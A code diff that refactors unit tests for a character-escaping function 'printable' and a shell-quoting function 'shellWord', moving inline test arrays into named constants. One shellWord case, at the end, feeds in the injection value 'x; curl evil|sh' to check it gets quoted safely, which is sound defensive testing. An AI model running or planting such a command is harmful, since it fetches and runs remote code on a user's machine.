@@ -74,12 +74,11 @@ describe("printable", () => {
     expect(printable(text)).toBe(shown);
   });
 
-  it.each(["one\n\ttwo\n", "Zürich, 東京, שלום, ✓ 😀", String.raw`C:\u001b`, ""])(
-    "leaves %j as it is",
-    (text) => {
-      expect(printable(text)).toBe(text);
-    },
-  );
+  const plain = ["one\n\ttwo\n", "Zürich, 東京, שלום, ✓ 😀", String.raw`C:\u001b`, ""];
+
+  it.each(plain)("leaves %j as it is", (text) => {
+    expect(printable(text)).toBe(text);
+  });
 
   it.each(unseenCharacters)("shows %s", (_, character) => {
     expect(printable(`a${character}b`)).toMatch(/^a(?:\\u[\da-f]{4}){1,2}b$/);
@@ -124,12 +123,11 @@ it("printableData shows what is in names and texts at any depth, and leaves the 
 });
 
 describe("shellWord", () => {
-  it.each(["run_1", "8f14e45f-ceea", "http://127.0.0.1:8080/api/v4", "a@b.example"])(
-    "leaves the plain word %s as it is",
-    (word) => {
-      expect(shellWord(word)).toBe(word);
-    },
-  );
+  const words = ["run_1", "8f14e45f-ceea", "http://127.0.0.1:8080/api/v4", "a@b.example"];
+
+  it.each(words)("leaves the plain word %s as it is", (word) => {
+    expect(shellWord(word)).toBe(word);
+  });
 
   it.each([
     ["x; curl evil|sh", "'x; curl evil|sh'"],
